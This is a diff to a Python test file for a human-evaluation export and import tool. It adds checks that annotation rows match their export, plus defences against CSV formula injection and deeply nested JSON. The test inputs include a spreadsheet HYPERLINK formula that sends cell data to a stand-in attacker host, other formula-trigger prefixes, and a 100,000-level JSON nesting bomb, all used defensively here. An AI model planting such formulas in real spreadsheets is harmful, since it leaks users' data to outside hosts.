@@ -1,4 +1,6 @@
-"""People as the judge: agreement statistics by hand, blind export, two-annotator round trip.
+"""People as the judge: blind export, two-annotator round trip, rows tied to their export.
+
+(The agreement statistics are tested against hand-worked values in test_eval_stats.py.)
 
     .venv/bin/python -m pytest tests/unit/test_eval_human.py -x -q
 """
@@ -12,61 +14,9 @@ from pathlib import Path
 import pytest
 
 from charops.errors import DataError
-from charops.eval.human import (
-    cohen_kappa,
-    export_human,
-    fleiss_kappa,
-    import_human,
-    krippendorff_alpha,
-)
+from charops.eval.human import export_human, import_human
 
 RESULTS = Path(__file__).parent / "eval_fixtures" / "results"
-
-
-# ---------------------------------------------------------------------------------------------
-# Agreement against hand-worked and published values
-
-
-def test_cohen_kappa_by_hand():
-    # p_o = 3/4; each rater's label shares: a (1/2, 1/2), b (1/4, 3/4) -> p_e = 1/2*1/4 + 1/2*3/4
-    # = 1/2; kappa = (3/4 - 1/2) / (1 - 1/2) = 1/2.
-    assert cohen_kappa([1, 1, 2, 2], [1, 2, 2, 2]) == pytest.approx(0.5)
-    # Wikipedia's 50 proposals: yes/yes 20, yes/no 5, no/yes 10, no/no 15 -> p_o 0.7, p_e 0.5.
-    a = ["y"] * 25 + ["n"] * 25
-    b = ["y"] * 20 + ["n"] * 5 + ["y"] * 10 + ["n"] * 15
-    assert cohen_kappa(a, b) == pytest.approx(0.4)
-    assert cohen_kappa([1, 1], [1, 1]) is None  # p_e = 1: undefined, not 0 or 1
-
-
-def test_fleiss_kappa_published_example():
-    # Fleiss (1971) as on Wikipedia: 10 items, 14 raters, 5 categories; P-bar 0.378, P_e 0.213.
-    table = [[0, 0, 0, 0, 14], [0, 2, 6, 4, 2], [0, 0, 3, 5, 6], [0, 3, 9, 2, 0], [2, 2, 8, 1, 1],
-             [7, 7, 0, 0, 0], [3, 2, 6, 3, 0], [2, 5, 3, 2, 2], [6, 5, 2, 1, 0], [0, 2, 2, 3, 7]]
-    assert fleiss_kappa(table) == pytest.approx(0.20993, abs=5e-5)
-    # By hand: 2 items, 3 raters, all agree on item 1 (cat A), split 2-1 on item 2:
-    # P_1 = 1, P_2 = (4+1-3)/6 = 1/3, P-bar = 2/3; p_A = 5/6, p_B = 1/6, P_e = 26/36;
-    # kappa = (2/3 - 26/36) / (10/36) = -0.2.
-    assert fleiss_kappa([[3, 0], [2, 1]]) == pytest.approx(-0.2)
-    with pytest.raises(ValueError):
-        fleiss_kappa([[3, 0], [1, 1]])
-
-
-def test_krippendorff_alpha_by_hand_and_published():
-    # Two coders, three units (1,1) (2,2) (1,2): coincidences o11 = 2, o22 = 2, o12 = o21 = 1;
-    # n_1 = n_2 = 3, n = 6; D_o = 2/6, D_e = 2*3*3 / (6*5) = 0.6; alpha = 1 - (1/3)/0.6 = 4/9.
-    assert krippendorff_alpha([[1, 1], [2, 2], [1, 2]]) == pytest.approx(4 / 9)
-    # Krippendorff (2011), "Computing Krippendorff's alpha-reliability": 4 observers, 12 units,
-    # missing values; published alpha nominal .743, ordinal .815, interval .849.
-    n = None
-    data = [[1, 2, 3, 3, 2, 1, 4, 1, 2, n, n, n],
-            [1, 2, 3, 3, 2, 2, 4, 1, 2, 5, n, 3],
-            [n, 3, 3, 3, 2, 3, 4, 2, 2, 5, 1, n],
-            [1, 2, 3, 3, 2, 4, 4, 1, 2, 5, 1, n]]
-    units = [list(col) for col in zip(*data, strict=True)]
-    assert krippendorff_alpha(units, "nominal") == pytest.approx(0.743, abs=5e-4)
-    assert krippendorff_alpha(units, "ordinal") == pytest.approx(0.815, abs=5e-4)
-    assert krippendorff_alpha(units, "interval") == pytest.approx(0.849, abs=5e-4)
-    assert krippendorff_alpha([[1, n], [2, n]]) is None  # nothing pairable
 
 
 # ---------------------------------------------------------------------------------------------
@@ -251,3 +201,112 @@ def test_bad_annotations_are_one_line_errors_naming_file_line_field(exported, tm
         import_human(info["key"], [alice], RESULTS)
     with pytest.raises(DataError, match="no such key file"):
         import_human(tmp_path / "nokey.json", [alice], tmp_path / "o")
+
+
+# ---------------------------------------------------------------------------------------------
+# Issue 19: rows tied to their export; CSV formula injection; deeply nested annotations
+
+
+def _write_csv(path: Path, rows: list[dict]) -> Path:
+    with path.open("w", encoding="utf-8", newline="") as fh:
+        writer = csv.DictWriter(fh, fieldnames=list(dict.fromkeys(k for r in rows for k in r)))
+        writer.writeheader()
+        writer.writerows(rows)
+    return path
+
+
+def test_ratings_against_another_exports_key_are_refused(exported, tmp_path):
+    """Two exports of the same results (another seed): files filled from the first, read with
+    the second's key, used to be accepted and scored against the wrong replies."""
+    info, key = exported
+    alice, bob = _fill(exported, tmp_path)
+    other = export_human(RESULTS, tmp_path / "tasks2", seed=4)
+    assert other["export_id"] != info["export_id"]
+    with pytest.raises(DataError, match=r"alice\.csv:2: export_id '[0-9a-f]{32}' is not this key's"):
+        import_human(other["key"], [alice], tmp_path / "o")
+    with pytest.raises(DataError, match=r"bob\.jsonl:1: export_id .* comes from another export"):
+        import_human(other["key"], [bob], tmp_path / "o")
+    assert not (tmp_path / "o").exists()
+
+    # Same export, but a row now shows other texts than its key entry: its task id edited to
+    # another's, or its reply changed.
+    rows = _read_csv(alice)
+    rows[0]["task_id"], rows[1]["task_id"] = rows[1]["task_id"], rows[0]["task_id"]
+    swapped = _write_csv(tmp_path / "swapped.csv", rows)
+    with pytest.raises(DataError, match=rf"swapped\.csv:2: {rows[0]['task_id']} does not show the texts"):
+        import_human(info["key"], [swapped], tmp_path / "o")
+    rows = _read_csv(alice)
+    rows[2]["reply"] += " (edited)"
+    edited = _write_csv(tmp_path / "edited.csv", rows)
+    with pytest.raises(DataError, match=r"edited\.csv:4: .* the row was changed or comes from another export"):
+        import_human(info["key"], [edited], tmp_path / "o")
+    # And every row carries both marks, in both formats.
+    for name in ("pointwise", "pairwise", "turing"):
+        for row in _read_csv(Path(info["out"]) / f"{name}.csv"):
+            assert row["export_id"] == key["export_id"]
+            assert row["fingerprint"] == key["tasks"][name][row["task_id"]]["fingerprint"]
+
+
+def test_an_old_key_without_export_ids_says_to_export_again(exported, tmp_path):
+    info, key = exported
+    alice, _ = _fill(exported, tmp_path)
+    old = tmp_path / "old.key.json"
+    old.write_text(json.dumps({**key, "schema": "charops.human_key/v1"}))
+    with pytest.raises(DataError, match="older charops.*export the tasks again"):
+        import_human(old, [alice], tmp_path / "o")
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)",
+            "\tTAB", "\rCR", "'=already quoted", "'"]
+
+
+def test_csv_cells_never_start_a_formula_and_import_restores_them(tmp_path):
+    from charops.eval.human import csv_cell, csv_value
+
+    results = tmp_path / "results"
+    results.mkdir()
+    replies = [json.loads(line) for line in (RESULTS / "replies.jsonl").read_text().splitlines()]
+    for i, r in enumerate(replies):
+        r["reply"] = FORMULAS[i % len(FORMULAS)] + (" said the candidate" if r["model"] == "candidate" else "")
+        r["character"] = "=1+1" if r["id"] == "p2" else r["character"]
+    (results / "replies.jsonl").write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in replies))
+    (results / "eval_summary.json").write_text((RESULTS / "eval_summary.json").read_text())
+    info = export_human(results, tmp_path / "tasks", seed=1)
+    key = json.loads(Path(info["key"]).read_text())
+    for name in ("pointwise", "pairwise", "turing"):
+        rows = _read_csv(tmp_path / "tasks" / f"{name}.csv")
+        cells = [v for r in rows for v in r.values()]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], name
+        jsonl = [json.loads(line) for line in (tmp_path / "tasks" / f"{name}.jsonl").read_text().splitlines()]
+        # The JSONL keeps the texts as they are; the CSV cell is the same text behind an apostrophe.
+        assert [{k: csv_cell(v) for k, v in r.items()} for r in jsonl] == rows
+    point = _read_csv(tmp_path / "tasks" / "pointwise.csv")
+    assert any(r["reply"].startswith("'=HYPERLINK(") for r in point)
+    assert any(r["character"] == "'=1+1" for r in point)
+    for text in [*FORMULAS, "''", "'x", "plain", ""]:
+        assert csv_value(csv_cell(text)) == text
+
+    # Filled in and read back, every row matches its fingerprint and the scores land on the
+    # replies the key names.
+    filled = [{**r, **{d: 5 if key["tasks"]["pointwise"][r["task_id"]]["model"] == "candidate" else 1
+                       for d in key["dimensions"]}} for r in point]
+    summary = import_human(info["key"], [_write_csv(tmp_path / "ann.csv", filled)], tmp_path / "human")
+    assert summary["pointwise"]["candidate"]["overall"]["Overall"]["mean"] == 5.0
+    assert summary["pointwise"]["baseline"]["overall"]["Overall"]["mean"] == 1.0
+
+
+def test_a_deeply_nested_annotation_is_a_one_line_error(exported, tmp_path):
+    from conftest import assert_one_line_error
+    from typer.testing import CliRunner
+
+    from charops.cli.main import app
+
+    info, _ = exported
+    deep = tmp_path / "deep.jsonl"
+    deep.write_text('{"task": "pairwise"}\n{"task": ' + "[" * 100_000 + "]" * 100_000 + "}\n")
+    with pytest.raises(DataError, match=r"deep\.jsonl:2: JSON nested too deeply"):
+        import_human(info["key"], [deep], tmp_path / "o")
+    result = CliRunner().invoke(app, ["eval", "import-human", info["key"], str(deep), "--out",
+                                      str(tmp_path / "o")])
+    assert_one_line_error(result, "deep.jsonl:2", "nested too deeply")
+    assert not (tmp_path / "o").exists()
